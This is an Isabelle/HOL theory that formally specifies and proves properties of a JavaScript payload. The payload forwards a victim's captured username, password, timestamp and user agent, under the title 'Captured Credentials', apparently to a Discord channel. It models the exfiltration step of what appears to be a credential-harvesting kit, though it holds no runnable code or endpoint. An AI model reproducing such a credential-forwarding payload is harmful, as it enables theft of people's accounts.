(* ===== verification/Payload.thy ===== *)
theory Payload
  imports Json
begin

text \<open>
  The notification payload of lines 19--47 of \<^verbatim>\<open>src/api/log.js\<close>: an object with a fixed
  \<open>content\<close> line and one embed holding a fixed title, the colour \<open>0xff0000\<close> and four
  fields. The username, password and user agent are interpolated into template literals
  \<open>```${x}```\<close> (a Markdown code block), so each goes through ToString and the
  construction throws where ToString throws; the timestamp is put in as it is, without
  conversion. The object literal evaluates its parts left to right, so the username is
  converted first, then the password, then the user agent. The emoji of the field names are
  written as their UTF-8 bytes.
\<close>

definition emoji_siren :: string where
  "emoji_siren = [CHR 0xF0, CHR 0x9F, CHR 0x9A, CHR 0xA8]"

definition emoji_user :: string where
  "emoji_user = [CHR 0xF0, CHR 0x9F, CHR 0x91, CHR 0xA4]"

definition emoji_key :: string where
  "emoji_key = [CHR 0xF0, CHR 0x9F, CHR 0x94, CHR 0x91]"

definition emoji_clock :: string where
  "emoji_clock = [CHR 0xF0, CHR 0x9F, CHR 0x95, CHR 0x90]"

definition emoji_globe :: string where
  "emoji_globe = [CHR 0xF0, CHR 0x9F, CHR 0x8C, CHR 0x90]"

definition code_block :: "string \<Rightarrow> string" where
  "code_block s = ''```'' @ s @ ''```''"

definition embed_field :: "string \<Rightarrow> jsval \<Rightarrow> bool \<Rightarrow> jsval" where
  "embed_field name value inline =
     JObject [(''name'', JString name), (''value'', value), (''inline'', JBool inline)]"

definition payload_content :: string where
  "payload_content = emoji_siren @ '' **New Login Attempt** '' @ emoji_siren"

definition payload_color :: int where
  "payload_color = 16711680"

text \<open>The object literal of lines 19--47, once the three template literals are evaluated.\<close>

definition payload_object :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> jsval \<Rightarrow> jsval" where
  "payload_object u p ua timestamp =
     JObject
       [(''content'', JString payload_content),
        (''embeds'', JArray [JObject
           [(''title'', JString ''Captured Credentials''),
            (''color'', JNumber payload_color),
            (''fields'', JArray
               [embed_field (emoji_user @ '' Username / Email'') (JString (code_block u)) False,
                embed_field (emoji_key @ '' Password'') (JString (code_block p)) False,
                embed_field (emoji_clock @ '' Timestamp'') timestamp True,
                embed_field (emoji_globe @ '' User Agent'') (JString (code_block ua)) True])]])]"

text \<open>The literal's evaluation: the three conversions, in source order, then the object.\<close>

definition discord_payload :: "jsval \<Rightarrow> jsval \<Rightarrow> jsval \<Rightarrow> jsval \<Rightarrow> exn + jsval" where
  "discord_payload username password userAgent timestamp =
     (case js_to_string username of
        Inl e \<Rightarrow> Inl e
      | Inr u \<Rightarrow>
     (case js_to_string password of
        Inl e \<Rightarrow> Inl e
      | Inr p \<Rightarrow>
     (case js_to_string userAgent of
        Inl e \<Rightarrow> Inl e
      | Inr ua \<Rightarrow> Inr (payload_object u p ua timestamp))))"

subsection \<open>What the payload carries\<close>

text \<open>
  The embed's field list, and the path from the payload to it: the payload's \<open>embeds\<close>
  array holds the embed whose \<open>fields\<close> array holds the four fields.
\<close>

lemma payload_object_field:
  assumes "x \<in> set [embed_field (emoji_user @ '' Username / Email'') (JString (code_block u)) False,
                   embed_field (emoji_key @ '' Password'') (JString (code_block p)) False,
                   embed_field (emoji_clock @ '' Timestamp'') ts True,
                   embed_field (emoji_globe @ '' User Agent'') (JString (code_block ua)) True]"
    and "json_contains s x"
  shows "json_contains s (payload_object u p ua ts)"
proof -
  let ?fields = "[embed_field (emoji_user @ '' Username / Email'') (JString (code_block u)) False,
                  embed_field (emoji_key @ '' Password'') (JString (code_block p)) False,
                  embed_field (emoji_clock @ '' Timestamp'') ts True,
                  embed_field (emoji_globe @ '' User Agent'') (JString (code_block ua)) True]"
  let ?embed = "JObject [(''title'', JString ''Captured Credentials''), (''color'', JNumber payload_color),
                         (''fields'', JArray ?fields)]"
  have "json_contains s (JArray ?fields)" using assms by (rule json_contains_array)
  then have "json_contains s ?embed" by (rule json_contains_object [rotated]) simp
  then have "json_contains s (JArray [?embed])" by (rule json_contains_array [rotated]) simp
  then show ?thesis unfolding payload_object_def by (rule json_contains_object [rotated]) simp
qed

lemma embed_field_value_contains: "json_contains s v \<Longrightarrow> json_contains s (embed_field n v i)"
  unfolding embed_field_def by (rule json_contains_object [of "''value''" v]) simp_all

lemma payload_object_contains:
  "json_contains (json_quote (code_block u)) (payload_object u p ua ts)"
  "json_contains (json_quote (code_block p)) (payload_object u p ua ts)"
  "json_contains (json_quote (code_block ua)) (payload_object u p ua ts)"
proof -
  show "json_contains (json_quote (code_block u)) (payload_object u p ua ts)"
    by (rule payload_object_field [where x = "embed_field (emoji_user @ '' Username / Email'') (JString (code_block u)) False"])
       (auto intro: embed_field_value_contains)
  show "json_contains (json_quote (code_block p)) (payload_object u p ua ts)"
    by (rule payload_object_field [where x = "embed_field (emoji_key @ '' Password'') (JString (code_block p)) False"])
       (auto intro: embed_field_value_contains)
  show "json_contains (json_quote (code_block ua)) (payload_object u p ua ts)"
    by (rule payload_object_field [where x = "embed_field (emoji_globe @ '' User Agent'') (JString (code_block ua)) True"])
       (auto intro: embed_field_value_contains)
qed

text \<open>The serialization of the timestamp field when the request carries no timestamp.\<close>

lemma embed_field_undefined:
  "json_stringify (embed_field n JUndefined i) =
     Some (''{'' @ json_quote ''name'' @ '':'' @ json_quote n @ '','' @ json_quote ''inline'' @ '':''
           @ (if i then ''true'' else ''false'') @ ''}'')"
  by (simp add: embed_field_def)

subsection \<open>Properties of the payload\<close>

text \<open>
  C12. When the payload builds, its three interpolated values are the ToString of the
  username, the password and the user agent, and the serialized payload carries each of
  them verbatim, as the quoted JSON string of its Markdown code block.
\<close>

theorem discord_payload_carries_credentials:
  assumes "discord_payload username password userAgent timestamp = Inr pl"
  shows "\<exists>u p ua. js_to_string username = Inr u \<and> js_to_string password = Inr p \<and>
           js_to_string userAgent = Inr ua \<and>
           json_contains (json_quote (code_block u)) pl \<and> json_contains (json_quote (code_block p)) pl \<and>
           json_contains (json_quote (code_block ua)) pl"
  using assms payload_object_contains
  by (auto simp: discord_payload_def split: sum.splits)

text \<open>
  C13. Building the payload fails exactly when the username, the password or the user
  agent is a value whose ToString throws (an object with an own \<open>toString\<close>, or an array
  holding one), and then with the TypeError of OrdinaryToPrimitive; the timestamp, which
  is not converted, never makes it fail.
\<close>

theorem discord_payload_error:
  "(case discord_payload username password userAgent timestamp of
      Inl e \<Rightarrow> e = to_primitive_error \<and>
               (tostring_throws username \<or> tostring_throws password \<or> tostring_throws userAgent)
    | Inr pl \<Rightarrow> \<not> tostring_throws username \<and> \<not> tostring_throws password \<and> \<not> tostring_throws userAgent)"
  using js_to_string_result [of username] js_to_string_result [of password]
        js_to_string_result [of userAgent]
  by (auto simp: discord_payload_def split: sum.splits)

text \<open>
  C14. A request without a timestamp is forwarded with a timestamp field that has no
  \<open>value\<close> at all: \<open>JSON.stringify\<close> drops the \<open>undefined\<close> property, so the field
  serializes as its name and \<open>inline\<close> flag only (the spec says the missing value is
  rendered as empty or undefined text).
\<close>

theorem payload_timestamp_missing:
  "json_contains (''{'' @ json_quote ''name'' @ '':'' @ json_quote (emoji_clock @ '' Timestamp'') @ '',''
                   @ json_quote ''inline'' @ '':true}'') (payload_object u p ua JUndefined)"
proof (rule payload_object_field [where x = "embed_field (emoji_clock @ '' Timestamp'') JUndefined True"])
  show "json_contains (''{'' @ json_quote ''name'' @ '':'' @ json_quote (emoji_clock @ '' Timestamp'') @ '',''
                   @ json_quote ''inline'' @ '':true}'') (embed_field (emoji_clock @ '' Timestamp'') JUndefined True)"
    by (simp add: json_contains_def embed_field_undefined)
qed simp

end
